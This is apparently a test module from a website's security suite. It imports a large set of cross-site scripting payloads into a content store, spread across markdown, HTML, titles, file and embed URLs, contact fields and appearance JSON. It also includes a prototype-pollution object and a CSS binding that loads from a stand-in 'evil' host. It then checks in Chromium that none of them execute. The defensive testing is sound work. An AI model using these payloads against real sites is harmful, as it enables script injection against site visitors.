// Case 2: script-injection payloads in every kind of editor-controlled content, imported into the suite's
// content store; every affected page is opened in Chromium and must run none of it.
import fs from 'node:fs';
import { CHROMIUM_FLAGS, CHROMIUM_PATH } from '../../../scripts/lib/chromium.mjs';
import { SITE_ENTRY_IDS } from '../../../shared/site-entry-ids.mjs';

export const SITE_ENTRY_ID = SITE_ENTRY_IDS.site;
const id = (n) => `0f0f0f0f-0000-4000-8000-${String(n).padStart(12, '0')}`;
export const HOSTILE_TAG = 'WFHOSTILE';

/** Markdown body: raw HTML, dangerous link/image schemes, reference links, autolinks, mXSS. */
const markdown = (t) => `${HOSTILE_TAG} markdown body ${t}.

<script>window.__wfInjected='${t}-md-script';alert(1)</script>

<img src=x onerror="window.__wfInjected='${t}-md-img';alert(1)">

[click me](javascript:window.__wfInjected='${t}-md-link')
[upper](JAVASCRIPT:alert(1)) [entity](javascript&colon;alert(1)) [spaced]( javascript:alert(1))

[data link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX193ZkluamVjdGVkPTE8L3NjcmlwdD4=)

![img](javascript:window.__wfInjected='${t}-md-imgsrc')
![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nYWxlcnQoMSknLz4=)

<javascript:alert('autolink')>

[ref link][evil]

[evil]: javascript:window.__wfInjected='${t}-md-ref'

<svg onload="window.__wfInjected='${t}-md-svg'"><circle r="4"/></svg>

<iframe srcdoc="<script>parent.__wfInjected='${t}-md-srcdoc'</script>"></iframe>

<a href="jav&#x09;ascript:window.__wfInjected='${t}-md-tab'">tab</a>

<div style="background:url(javascript:alert(1));width:expression(alert(1))">css</div>

<details open ontoggle="window.__wfInjected='${t}-md-toggle'"><summary>x</summary></details>

<math><mtext><table><mglyph><style><img src=x onerror="window.__wfInjected='${t}-md-mxss'"></style></mglyph></table></mtext></math>

</script><script>window.__wfInjected='${t}-md-break'</script>
`;

/** HTML-format text. */
const html = (t) => `<p>${HOSTILE_TAG} html ${t}</p>
<script>window.__wfInjected='${t}-html-script'</script>
<img src="x" onerror="window.__wfInjected='${t}-html-img'">
<a href="javascript:window.__wfInjected='${t}-html-link'">js link</a>
<a href=" &#106;avascript:alert(1)">entity js</a>
<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data link</a>
<svg><script>window.__wfInjected='${t}-html-svgscript'</script></svg>
<svg onload="window.__wfInjected='${t}-html-svg'"></svg>
<iframe src="javascript:parent.__wfInjected='${t}-html-iframe'"></iframe>
<iframe srcdoc="&lt;script&gt;parent.__wfInjected='${t}-html-srcdoc'&lt;/script&gt;"></iframe>
<object data="javascript:window.__wfInjected='${t}-html-object'"></object>
<embed src="javascript:window.__wfInjected='${t}-html-embed'">
<form action="javascript:window.__wfInjected='${t}-html-form'"><button formaction="javascript:alert(1)">go</button></form>
<meta http-equiv="refresh" content="0;url=javascript:window.__wfInjected='${t}-html-meta'">
<base href="javascript:/">
<style>body{background:url("javascript:alert(1)")}</style>
<p style="x:expression(window.__wfInjected='${t}-html-expr')">expr</p>
<video><source onerror="window.__wfInjected='${t}-html-video'"></video>
<input autofocus onfocus="window.__wfInjected='${t}-html-focus'">
<noscript><p title="</noscript><img src=x onerror=window.__wfInjected='${t}-html-noscript'>"></noscript>
<table background="javascript:alert(1)"><tr><td>t</td></tr></table>
<a href="#" xlink:href="javascript:alert(1)">xlink</a>`;

const title = (t) => `${HOSTILE_TAG} ${t} </script><script>window.__wfInjected='${t}-title'</script><img src=x onerror=alert(1)> "'&`;
const jsUrl = (t) => `javascript:window.__wfInjected='${t}-url'`;
const text = (eid, name, data, iana) => ({ id: eid, type: 'text', name, preferences: { iana_type: iana }, data });

function files(t) {
  const file = (n, url, type = 'image/png') => ({
    id: id(900 + n),
    name: `evil${n}"><img src=x onerror=alert(1)>.png`,
    title: `<script>window.__wfInjected='${t}-file-title'</script>`,
    description: `<img src=x onerror="window.__wfInjected='${t}-file-desc'">`,
    ip_attribution: '</script><script>alert(1)</script>',
    locale: 'en',
    type,
    url,
  });
  return [
    file(1, jsUrl(t)),
    file(2, 'data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nYWxlcnQoMSknLz4=', 'image/svg+xml'),
    file(3, ' JaVaScRiPt:alert(1)', 'application/pdf'),
    file(4, 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'application/pdf'),
    file(5, `/images/x.png"><script>window.__wfInjected='${t}-file-url'</script>`),
  ];
}

const embeds = (t) => [
  { id: id(950), url: jsUrl(t), title: `<script>window.__wfInjected='${t}-embed-title'</script>`, description: '<img src=x onerror=alert(1)>', locale: 'en', ip_attribution: 'x' },
  { id: id(951), url: `https://www.youtube.com/watch?v="><script>window.__wfInjected='${t}-embed-yt'</script>`, title: 'yt', description: '', locale: 'en', ip_attribution: 'x' },
  { id: id(952), url: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', title: 'data', description: '', locale: 'en', ip_attribution: 'x' },
  { id: id(953), url: 'https://www.youtube.com/watch?v=Lk8sUmWh2Tq&x=</script><script>alert(1)</script>', title: '</script><script>alert(1)</script>', description: '', locale: 'en', ip_attribution: 'x' },
];

export const HOSTILE_CONTACT_ID = id(800);
const contact = (n) => ({
  id: id(800 + n),
  organization: `${HOSTILE_TAG} contact <img src=x onerror="window.__wfInjected='contact-org'"></script><script>window.__wfInjected='contact-org-s'</script>`,
  email: `"><script>window.__wfInjected='contact-email'</script>@evil.example`,
  url: `javascript:window.__wfInjected='contact-url'`,
  groups: ['primary', 'site'],
  locations: [
    {
      id: id(850 + n),
      name: '<svg onload="window.__wfInjected=\'contact-loc\'">',
      country: 'US',
      division: { code: 'US-MT' },
      city: '</script><script>window.__wfInjected="contact-city"</script>',
      postcode: '"><img src=x onerror=alert(1)>',
      detail: '<a href="javascript:alert(1)">street</a>',
      point: '-114.33,48.41',
    },
  ],
  phones: [{ id: id(870 + n), country: 'US', name: '<img src=x onerror=alert(1)>', number: { text: 'javascript:alert(1)', e164: 'javascript:alert(1)', i18n: '<script>alert(1)</script>' } }],
});

const upcoming = () => {
  const day = new Date(Date.now() + 3 * 86_400_000).toISOString().slice(0, 10);
  return [[`${day}T18:00:00-07:00`, `${day}T20:00:00-07:00`]];
};

function entry(n, types, t, elements) {
  return {
    id: id(n),
    title: title(t),
    phase: 4,
    types,
    groups: [],
    users: [],
    elements: [
      text('overview', 'Overview', `${HOSTILE_TAG} overview <script>window.__wfInjected='${t}-overview'</script> javascript:alert(1)`, 'text/plain'),
      text('intro', 'Intro', `<img src=x onerror="window.__wfInjected='${t}-intro'"> [x](javascript:alert(1))`, 'text/markdown'),
      text('body', 'Body', markdown(t), 'text/markdown'),
      text('html', 'HTML', html(t), 'text/html'),
      { id: 'cover-image', type: 'file', name: 'Cover Image', preferences: {}, data: files(t).slice(0, 2) },
      { id: 'gallery', type: 'file', name: 'Gallery', preferences: {}, data: files(t) },
      { id: 'embed', type: 'embed', name: 'Embed', preferences: {}, data: embeds(t) },
      { id: 'contact', type: 'contact', name: 'Contact', preferences: {}, data: [{ id: id(801) }, { id: id(802) }] },
      text('url-website', 'Website', jsUrl(t), 'text/plain'),
      text('pricing', 'Pricing', '</script><script>alert(1)</script>', 'text/plain'),
      text('hours', 'Hours', '<img src=x onerror=alert(1)>', 'text/plain'),
      ...elements,
    ],
  };
}

const notice = (n, iana, data, appearance) => ({
  id: id(n),
  title: title(`notice${n}`),
  phase: 4,
  types: [{ id: 'notice', name: 'Notice' }],
  groups: [],
  users: [],
  elements: [text('notice', 'Notice', data, iana), text('appearance', 'Appearance', appearance, 'application/json')],
});

const APPEARANCE = [
  JSON.stringify({
    background: { color: 'red;background-image:url(javascript:alert(1))', image: 'javascript:alert(1)' },
    icon: { name: `"><script>window.__wfInjected='app-icon'</script>`, size: 'expression(alert(1))', color: '</style><script>window.__wfInjected="app-style"</script>' },
    text: { color: 'red" onmouseover="alert(1)', fontSize: '1px;}</style><script>window.__wfInjected="app-font"</script>', lineHeight: 'expression(alert(1))', verticalAlign: 'url(javascript:alert(1))' },
    link: { color: 'url("javascript:alert(1)")' },
  }),
  '{"background":{"color":"</script><script>window.__wfInjected=\'app-broken\'</script>"',
  '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"background":{"color":"-moz-binding:url(http://evil/x.xml#x)"}}',
  JSON.stringify(['<script>alert(1)</script>']),
];

/** Builds the import file from the store's own export (for the site entry) and writes it to `file`. */
export function buildHostileImport(exported, file) {
  const site = structuredClone(exported.entries.find((e) => e.id === SITE_ENTRY_ID));
  if (!site) throw new Error('site entry missing from the export');
  const notices = [
    notice(700, 'text/markdown', `**${HOSTILE_TAG}-NOTICE md** <script>window.__wfInjected='notice-md'</script><img src=x onerror="window.__wfInjected='notice-md-img'"> [js](javascript:window.__wfInjected='notice-md-link') [data](data:text/html,<script>alert(1)</script>)`, APPEARANCE[0]),
    notice(701, 'text/html', `<b>${HOSTILE_TAG}-NOTICE html</b> <script>window.__wfInjected='notice-html'</script><svg onload="window.__wfInjected='notice-svg'"></svg><a href="javascript:window.__wfInjected='notice-html-link'">x</a><iframe srcdoc="<script>parent.__wfInjected='notice-srcdoc'</script>"></iframe>`, APPEARANCE[1]),
    notice(702, 'text/plain', `${HOSTILE_TAG}-NOTICE plain </script><script>window.__wfInjected='notice-plain'</script> javascript:alert(1)`, APPEARANCE[2]),
    notice(703, 'text/markdown', `${HOSTILE_TAG}-NOTICE css <style>*{background:url(javascript:alert(1))}</style>`, APPEARANCE[3]),
  ];
  const refs = site.elements.find((e) => e.id === 'notices');
  refs.data = [...notices.map((n) => ({ id: n.id, phase: 4 })), ...refs.data];
  for (const key of ['contacts-primary', 'contacts-site']) {
    const el = site.elements.find((e) => e.id === key);
    el.data = [{ id: id(801) }, ...el.data];
  }
  const entries = [
    entry(1, [{ id: 'dine', name: 'Dine' }], 'dine', [text('url-reserve', 'Reserve', ' javascript:alert(1)', 'text/plain')]),
    entry(2, [{ id: 'stay', name: 'Stay' }], 'stay', [text('url-book', 'Book', 'JAVASCRIPT:window.__wfInjected="stay-book"', 'text/plain')]),
    entry(3, [{ id: 'event', name: 'Event' }], 'event', [
      { id: 'event-datetime', type: 'datetime', name: 'Event Date & Time', preferences: { data_type: 'date/time' }, data: upcoming() },
    ]),
    entry(4, [{ id: 'article', name: 'Article' }, { id: 'here', name: 'Here' }], 'article', []),
    entry(5, [{ id: 'webcam', name: 'Webcam' }], 'webcam', [text('url-webcam', 'Webcam', "javascript:window.__wfInjected='webcam'", 'text/plain')]),
    entry(6, [{ id: 'webcam', name: 'Webcam' }], 'webcam2', [text('url-webcam', 'Webcam', 'data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nYWxlcnQoMSknLz4=', 'text/plain')]),
    entry(7, [{ id: 'deal', name: 'Deal' }], 'deal', []),
    ...notices,
    site,
  ];
  const data = { entries, contacts: [contact(1), contact(2)] };
  fs.writeFileSync(file, JSON.stringify(data, null, 2));
  return { entryIds: entries.slice(0, 7).map((e) => e.id), noticeIds: notices.map((n) => n.id) };
}


/** Runs inside the page: injected-script traces in the DOM of one frame. */
function inspectFrame() {
  const bad = [];
  const urlAttrs = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'srcset', 'content']);
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value;
      const norm = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      const where = `<${el.tagName.toLowerCase()} ${name}="${value.slice(0, 90)}">`;
      if (urlAttrs.has(name) && (norm.startsWith('javascript:') || norm.startsWith('vbscript:') || norm.includes('url=javascript:')))
        bad.push(`javascript: URL ${where}`);
      if (urlAttrs.has(name) && name !== 'content' && norm.startsWith('data:text/html')) bad.push(`data:text/html URL ${where}`);
      if (name.startsWith('on') && /wfInjected|alert\(/.test(value)) bad.push(`event-handler attribute ${where}`);
      if (name === 'srcdoc') bad.push(`iframe srcdoc ${where}`);
      if (name === 'style' && /expression\(|javascript:/i.test(value)) bad.push(`script in style attribute ${where}`);
    }
  }
  const ld = [...document.querySelectorAll('script[type="application/ld+json"]')].map((s) => s.textContent);
  const scripts = [...document.querySelectorAll('script:not([src]):not([type="application/ld+json"])')]
    .map((s) => s.textContent)
    .filter((t) => /wfInjected/.test(t) && !/self\.__next_f|__next_f\.push/.test(t));
  for (const s of scripts) bad.push(`inline script with payload: ${s.slice(0, 90)}`);
  return { injected: window.__wfInjected ?? null, bad, ld, text: document.body?.innerText ?? '' };
}

export async function hostileContent({ site, report, pages, previewSecret, entryPaths, seeHtml = () => {} }) {
  const section = report.section('2', 'Hostile content in Chromium');
  const { chromium } = await import('playwright');
  const browser = await chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_FLAGS });
  try {
    // Self-test: the detector must see an injection when there is one.
    {
      const page = await browser.newPage();
      await page.setContent(`<img src=x onerror="window.__wfInjected='selftest'"><a href="javascript:alert(1)">x</a>`);
      await page.waitForTimeout(200);
      const r = await page.evaluate(inspectFrame);
      section.check(r.injected === 'selftest' && r.bad.length > 0, 'detector self-test failed', JSON.stringify(r).slice(0, 200));
      await page.close();
    }
    const visit = async (context, path, expectEntryTitle) => {
      const page = await context.newPage();
      const dialogs = [];
      page.on('dialog', (d) => {
        dialogs.push(`${d.type()}: ${d.message().slice(0, 60)}`);
        d.dismiss().catch(() => {});
      });
      let response;
      try {
        response = await page.goto(site + path, { waitUntil: 'load', timeout: 20_000 });
      } catch (error) {
        section.check(false, 'page did not load', `${path}: ${error.message.split('\n')[0]}`);
        await page.close();
        return null;
      }
      await page.waitForTimeout(800);
      // Click-to-load embeds (video players) so their iframes are inspected too.
      for (const button of await page.locator('figure button').all()) await button.click({ timeout: 2000 }).catch(() => {});
      await page.waitForTimeout(300);
      const frames = [];
      for (const frame of page.frames()) frames.push(await frame.evaluate(inspectFrame).catch(() => ({ injected: null, bad: [], ld: [], text: '' })));
      const main = frames[0];
      const injected = frames.map((f) => f.injected).filter(Boolean);
      const bad = frames.flatMap((f) => f.bad);
      const label = `${path.slice(0, 70)}`;
      section.check(response?.status() === 200, 'hostile page does not answer 200', `${label} → ${response?.status()}`);
      section.check(dialogs.length === 0, 'dialog opened by injected script', `${label}: ${dialogs.join('; ')}`);
      section.check(injected.length === 0, 'injected script ran (window.__wfInjected set)', `${label}: ${injected.join(', ')}`);
      section.check(bad.length === 0, 'dangerous markup in the DOM', `${label}: ${bad.slice(0, 3).join(' | ')}`);
      // JSON-LD: every block parses, none was cut short by a `</script>` in content.
      const raw = response ? await response.text().catch(() => '') : '';
      seeHtml(raw, `chromium ${path}`);
      seeHtml(await page.content().catch(() => ''), `chromium DOM ${path}`);
      const rawCount = (raw.match(/<script type="application\/ld\+json"/g) ?? []).length;
      const parsed = [];
      let parseError = null;
      for (const text of main.ld) {
        try {
          parsed.push(JSON.parse(text));
        } catch (error) {
          parseError = `${error.message}: ${text.slice(0, 100)}`;
        }
      }
      section.check(parseError === null, 'JSON-LD does not parse', `${label}: ${parseError}`);
      section.check(main.ld.length === rawCount, 'JSON-LD block count differs between HTML and DOM (broken script)', `${label}: html ${rawCount}, dom ${main.ld.length}`);
      if (expectEntryTitle) {
        const names = JSON.stringify(parsed);
        section.check(parsed.length > 0 && names.includes(JSON.stringify(expectEntryTitle).slice(1, -1)), 'JSON-LD missing or lost the (hostile) title', `${label}: ${names.slice(0, 160)}`);
        section.check(main.text.includes(HOSTILE_TAG), 'hostile entry content not rendered (test would be vacuous)', label);
      }
      await page.close();
      return main;
    };

    const publicContext = await browser.newContext({ timezoneId: 'America/Denver' });
    for (const { path, title: t } of entryPaths) await visit(publicContext, path, t);
    let noticeSeen = false;
    for (const path of pages) {
      const r = await visit(publicContext, path);
      if (r?.text.includes(`${HOSTILE_TAG}-NOTICE`)) noticeSeen = true;
    }
    await publicContext.close();

    // Preview mode reads past every cache, so the shell (notices, footer contacts) shows the hostile store.
    const preview = await browser.newContext({ timezoneId: 'America/Denver' });
    const enable = await preview.newPage();
    await enable.goto(`${site}/?preview=true&token=${encodeURIComponent(previewSecret)}`, { waitUntil: 'load' }).catch(() => {});
    await enable.close();
    for (const path of ['/', '/about-whitefish', '/dine', '/events', '/search?q=WFHOSTILE', entryPaths[0].path]) {
      const r = await visit(preview, path, null);
      if (r?.text.includes(`${HOSTILE_TAG}-NOTICE`)) noticeSeen = true;
    }
    await preview.close();
    section.check(noticeSeen, 'hostile notices never rendered (notice coverage vacuous)', 'no page showed WFHOSTILE-NOTICE');
    section.note(`${entryPaths.length} hostile entries + ${pages.length} public pages + 6 preview pages opened`);
  } finally {
    await browser.close();
    section.done();
  }
}
